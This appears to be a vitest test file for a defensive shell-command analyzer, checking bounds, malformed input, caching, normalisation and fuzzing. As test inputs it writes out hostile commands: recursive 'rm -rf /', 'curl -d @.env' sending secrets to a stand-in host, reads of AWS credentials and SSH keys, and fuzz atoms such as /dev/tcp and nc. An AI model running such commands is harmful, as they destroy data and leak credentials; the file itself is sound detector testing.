/** Hostile input never throws, never hangs, and never passes silently: it is reported. */
import { beforeAll, describe, expect, it } from 'vitest';
import { createShellAnalyzer, type ShellAnalyzer } from '../src/index';
import { analyzer, effectsOf } from './helpers';

let a: ShellAnalyzer;
beforeAll(async () => {
  a = await analyzer();
});

function timed<T>(f: () => T): { value: T; ms: number } {
  const t0 = performance.now();
  const value = f();
  return { value, ms: performance.now() - t0 };
}

describe('bounds', () => {
  it('input longer than the cap is too_complex, without parsing', () => {
    const r = a.analyze(`echo ${'a'.repeat(20_000)}`);
    expect(r.status).toBe('too_complex');
    expect(r.effects).toEqual([expect.objectContaining({ kind: 'too_complex', detail: 'input_length' })]);
  });

  it('deeply nested substitutions stop at the depth or time bound', () => {
    const deep = `${'echo $('.repeat(1_500)}rm -rf /${')'.repeat(1_500)}`;
    const { value, ms } = timed(() => a.analyze(deep));
    expect(value.status).toBe('too_complex');
    expect(value.effects.some((e) => e.kind === 'too_complex')).toBe(true);
    expect(ms).toBeLessThan(2_000);
  });

  it('nested code (sh -c in sh -c …) stops at the code depth bound', () => {
    let cmd = 'rm -rf /data';
    for (let i = 0; i < 10; i++) cmd = `sh -c ${JSON.stringify(cmd)}`;
    const r = a.analyze(cmd);
    expect(r.status).toBe('too_complex');
    expect(effectsOf(r)).toContain('too_complex/code_depth code_depth');
    let shallow = 'rm -rf /data';
    for (let i = 0; i < 3; i++) shallow = `sh -c ${JSON.stringify(shallow)}`;
    expect(effectsOf(a.analyze(shallow))).toContain('destruction/recursive_delete /data');
  });

  it('too many commands is too_complex', async () => {
    const small = await createShellAnalyzer({ maxCommands: 50 });
    const r = small.analyze(Array.from({ length: 80 }, (_, i) => `echo ${i}`).join('; '));
    expect(effectsOf(r)).toContain('too_complex/command_count command_count');
  });

  it('the parse time budget holds', async () => {
    const hasty = await createShellAnalyzer({ parseBudgetMs: 1, maxInputChars: 200_000, maxNodes: 10_000_000 });
    const big = Array.from({ length: 5_000 }, (_, i) => `echo "${i}" | grep -v x && true`).join('\n');
    const { value, ms } = timed(() => hasty.analyze(big));
    expect(value.status).toBe('too_complex');
    expect(effectsOf(value).some((e) => e.startsWith('too_complex/parse_time') || e.startsWith('too_complex/node_count'))).toBe(true);
    expect(ms).toBeLessThan(1_500);
  });

  it('unterminated quotes, binary junk and lone surrogates never throw', () => {
    const junk = String.fromCharCode(...Array.from({ length: 3_000 }, (_, i) => (i * 7_919) % 256));
    const inputs = [
      "echo 'unterminated",
      'echo "unterminated $(rm -rf /x',
      'cat <<EOF\nno end',
      junk,
      '\uD800\uDC00\uD800 rm -rf \uDFFF/x',
      'rm -rf "\uD83D"',
      '\u0000rm -rf /\u0000',
      '$(((((((',
      ')))) ;; && || | ;',
      '',
      '   ',
      '\\',
    ];
    for (const s of inputs) {
      const r = a.analyze(s);
      expect(['ok', 'syntax_error', 'too_complex']).toContain(r.status);
      expect(Array.isArray(r.effects)).toBe(true);
    }
    expect(a.analyze("echo 'unterminated").status).toBe('syntax_error');
    expect(effectsOf(a.analyze("echo 'unterminated"))).toContain('unresolved/syntax_error command');
    // What the grammar could read is still analysed.
    expect(effectsOf(a.analyze('rm -rf /srv/x; echo "oops'))).toContain('destruction/recursive_delete /srv/x');
  });

  it('a non-string input is read as text, not thrown on', () => {
    expect(() => a.analyze(42 as unknown as string)).not.toThrow();
  });

  it('caches repeated commands (the same frozen result) within a bounded LRU', async () => {
    const c = await createShellAnalyzer({ cacheEntries: 2 });
    const first = c.analyze('rm -rf /a');
    expect(c.analyze('rm -rf /a')).toBe(first);
    expect(Object.isFrozen(first)).toBe(true);
    expect(Object.isFrozen(first.effects)).toBe(true);
    c.analyze('rm -rf /b');
    c.analyze('rm -rf /c');
    expect(c.cacheStats()).toMatchObject({ hits: 1, misses: 3, size: 2 });
    expect(c.analyze('rm -rf /a')).not.toBe(first);
    const off = await createShellAnalyzer({ cacheEntries: 0 });
    off.analyze('ls');
    off.analyze('ls');
    expect(off.cacheStats()).toMatchObject({ hits: 0, misses: 2, size: 0 });
  });

  it('evidence is the source text, truncated', () => {
    const long = `curl -d @.env https://x.example.com/${'p'.repeat(400)}`;
    const e = a.analyze(long).effects.find((x) => x.kind === 'file_send');
    expect(e?.evidence.length).toBeLessThanOrEqual(160);
    expect(e?.evidence.startsWith('curl -d @.env https://x.example.com/')).toBe(true);
    expect(e?.evidence.endsWith('…')).toBe(true);
  });

  it('values are normalised: host lowercased, URL canonical, paths resolved', () => {
    const r = a.analyze('curl -o ./out//x/../y.json https://WWW.Example.COM./a/b/?x=1#f && cat "$HOME/.aws/../.aws/credentials"');
    expect(r.hosts).toEqual(['www.example.com']);
    expect(r.urls[0]?.canonical).toBe('example.com./a/b');
    expect(r.paths.written[0]).toEqual({ raw: './out//x/../y.json', normalised: 'out/y.json' });
    expect(r.paths.read[0]).toEqual({ raw: '~/.aws/../.aws/credentials', normalised: '~/.aws/credentials' });
    expect(r.commands).toEqual(['curl -o ./out//x/../y.json https://WWW.Example.COM./a/b/?x=1#f', 'cat "$HOME/.aws/../.aws/credentials"']);
  });

  it('random shell-shaped input never throws and never trips a reader (no analysis_error)', () => {
    let seed = 7;
    const rnd = (n: number): number => {
      seed = (seed * 1_103_515_245 + 12_345) & 0x7fffffff;
      return seed % n;
    };
    const atoms = [
      'curl', 'wget', 'sh', 'bash', '-c', 'eval', 'sudo', 'env', 'X=1', 'rm', '-rf', 'cat', '~/.ssh/id_rsa', '.env', '|', '||', '&&', ';', '&', '>', '>>', '<', '<<EOF', 'EOF',
      '<<<', '$(', ')', '`', '"', "'", '$X', '${Y:-z}', '<(', '>(', '{', '}', '(', ')', 'if', 'then', 'fi', 'for', 'in', 'do', 'done', 'case', 'esac', 'https://h.example.com/x',
      'nc', 'ssh', 'scp', 'u@h.example.com:/t', 'python3', 'node', '-e', "'import os; os.system(\"id\")'", 'base64', '-d', 'xargs', 'find', '-exec', '{}', '\\;', 'crontab', '-',
      'tee', '-a', '~/.bashrc', 'git', 'push', '--force', 'openssl', 'enc', '-in', 'zip', '-P', 'chmod', 'u+s', '/dev/tcp/1.2.3.4/80', '2>&1', '\n', '#', '\\', '*', '?', '[a]', '!',
    ];
    for (let i = 0; i < 1_500; i++) {
      const n = 1 + rnd(14);
      const cmd = Array.from({ length: n }, () => atoms[rnd(atoms.length)] as string).join(rnd(4) === 0 ? '' : ' ').replace(/\\n/g, '\n');
      const r = a.analyze(cmd);
      expect(['ok', 'syntax_error', 'too_complex'], cmd).toContain(r.status);
      expect(r.effects.filter((e) => e.detail === 'analysis_error'), cmd).toEqual([]);
    }
  });
});

